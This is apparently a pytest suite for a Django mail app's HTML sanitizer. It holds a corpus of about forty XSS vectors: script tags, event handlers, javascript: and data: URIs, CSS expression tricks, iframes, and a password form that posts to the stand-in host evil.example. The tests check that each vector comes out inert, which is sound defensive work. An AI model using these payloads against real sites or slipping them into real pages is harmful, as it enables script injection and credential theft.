"""Mail HTML from the API is harmless: an XSS corpus, each vector rendered inert."""

import re

import pytest

from messages.sanitize import clean_style, sanitize_mail_html
from tests.mailfactory import make_mail

from .conftest import ingest

pytestmark = pytest.mark.django_db

# (vector, what must not survive in the sanitized HTML)
CORPUS = [
    ("<script>alert(1)</script>", r"<script|alert"),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", r"(?i)script|evil"),
    ('<img src="x.png" onerror="alert(1)">', r"onerror|alert"),
    ("<body onload=alert(1)>", r"onload|alert"),
    ('<div onmouseover="alert(1)">hover</div>', r"onmouseover|alert"),
    ('<a href="javascript:alert(1)">click</a>', r"javascript|alert"),
    ('<a href="JaVaScRiPt:alert(1)">click</a>', r"(?i)javascript|alert"),
    ('<a href="&#106;avascript:alert(1)">click</a>', r"(?i)javascript|&#106;|alert"),
    ('<a href=" javascript:alert(1)">click</a>', r"(?i)javascript|alert"),
    ('<a href="java\tscript:alert(1)">click</a>', r"(?i)script|alert"),
    ('<a href="vbscript:msgbox(1)">click</a>', r"(?i)vbscript|msgbox"),
    ('<svg onload="alert(1)"><circle r="1"/></svg>', r"(?i)svg|onload|alert"),
    ("<svg><script>alert(1)</script></svg>", r"(?i)svg|script|alert"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', r"(?i)svg|javascript"),
    ('<math><a href="javascript:alert(1)">x</a></math>', r"(?i)javascript"),
    ('<div style="width: expression(alert(1))">x</div>', r"(?i)expression|alert"),
    ('<div style="width: expr/**/ession(alert(1))">x</div>', r"(?i)ession|alert"),
    ('<div style="width: expr\\65 ssion(alert(1))">x</div>', r"(?i)ssion|alert"),
    ('<div style="background: url(javascript:alert(1))">x</div>', r"(?i)javascript|url\("),
    ('<div style="behavior: url(x.htc)">x</div>', r"(?i)behavior|htc"),
    ('<div style="-moz-binding: url(x.xml#xss)">x</div>', r"(?i)binding|xss"),
    ("<style>body { background: url(https://evil.example/x) }</style>", r"(?i)style|evil"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', r"(?i)link|evil"),
    ('<iframe src="https://evil.example/"></iframe>', r"(?i)iframe|evil"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', r"(?i)iframe|script|alert"),
    ('<frameset><frame src="https://evil.example/"></frameset>', r"(?i)frame|evil"),
    ('<object data="https://evil.example/x.swf"></object>', r"(?i)object|evil"),
    ('<embed src="https://evil.example/x.swf">', r"(?i)embed|evil"),
    (
        '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>',
        r"(?i)<form|<input|<button|evil",
    ),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', r"(?i)meta|refresh|evil"),
    ('<base href="https://evil.example/">', r"(?i)base|evil"),
    ('<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', r"(?i)data:"),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', r"(?i)data:"),
    ('<img src="DATA:text/html,<script>alert(1)</script>">', r"(?i)data:|script|alert"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', r"(?i)data:|script|alert"),
    ('<img src="x" srcset="https://evil.example/a.png 1x">', r"(?i)srcset|evil"),
    ('<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>', r"evil"),
    ('<video poster="https://evil.example/p.png"><source src="x"></video>', r"(?i)video|evil"),
    (
        '<p title="x" id="steal" class="btn">p</p><!-- <script>alert(1)</script> -->',
        r"(?i)script|alert|<!--",
    ),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', r"onerror|alert"),
    ('<div style="position: fixed; top: 0; left: 0; width: 100%">overlay</div>', r"position"),
]


@pytest.mark.parametrize(("vector", "forbidden"), CORPUS)
def test_vector_is_rendered_harmless_by_the_api(api, account, vector, forbidden):
    message = ingest(account, make_mail("XSS", html=f"<p>before</p>{vector}<p>after</p>"))
    html = api.get(f"/api/messages/{message.pk}/?remote_images=true").json()["html"]
    assert not re.search(forbidden, html), html
    assert "before" in html and "after" in html


def test_links_open_safely():
    html = sanitize_mail_html('<a href="https://example.org/">site</a>').html
    assert html == (
        '<a href="https://example.org/" target="_blank" rel="noopener noreferrer nofollow">site</a>'
    )


def test_ordinary_mail_markup_survives():
    source = (
        '<table width="100%" cellpadding="4" bgcolor="#eeeeee"><tr>'
        '<td align="center" style="font-family: Arial, sans-serif; color: rgb(10, 20, 30); '
        'padding: 4px 8px">Hello <b>there</b> <font color="red" size="2">friend</font></td>'
        "</tr></table>"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
        '<a href="mailto:bob@example.org">mail Bob</a>'
    )
    html = sanitize_mail_html(source).html
    for kept in (
        'width="100%"',
        'bgcolor="#eeeeee"',
        "font-family: Arial, sans-serif",
        "color: rgb(10, 20, 30)",
        "<b>there</b>",
        'color="red"',
        'src="data:image/png;base64,iVBORw0KGgo="',
        'href="mailto:bob@example.org"',
    ):
        assert kept in html, kept


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("color: red", "color: red"),
        ("COLOR:Red;;margin:0 auto", "color: Red; margin: 0 auto"),
        ("width: calc(100% - expression(1))", None),
        ("color: red; background-image: url(x)", "color: red"),
        ("font-family: 'Helvetica Neue'", "font-family: 'Helvetica Neue'"),
        ("width:1px /* comment */", "width: 1px"),
        ("x:y:z", None),
        ("color: red !important", "color: red !important"),
    ],
)
def test_clean_style(style, expected):
    assert clean_style(style) == expected
